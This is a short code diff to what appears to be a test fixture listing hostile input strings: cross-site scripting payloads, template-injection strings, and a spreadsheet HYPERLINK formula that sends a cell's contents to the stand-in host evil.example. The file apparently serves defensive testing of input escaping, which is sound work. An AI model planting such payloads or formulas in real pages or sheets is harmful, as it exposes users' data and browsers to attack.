@@ -5,9 +5,9 @@ export const hostileText = {
   formula: `=HYPERLINK("http://evil.example/?"&A1,"open")`,
   script: '<script>alert(1)</script>',
   image: `"><img src=x onerror="alert('image')">`,
-  frame: `<iframe srcdoc="<script>parent.alert('frame')</script>"></iframe>`,
+  frame: `<iframe srcdoc="<script>alert('frame')</script>"></iframe>`,
   link: `javascript:alert('link')`,
-  template: '${alert(1)}{{constructor.constructor("alert(1)")()}}',
+  template: '${alert(1)}{{alert(1)}}',
 } as const
 
 /** All of it, beginning as a formula does. */
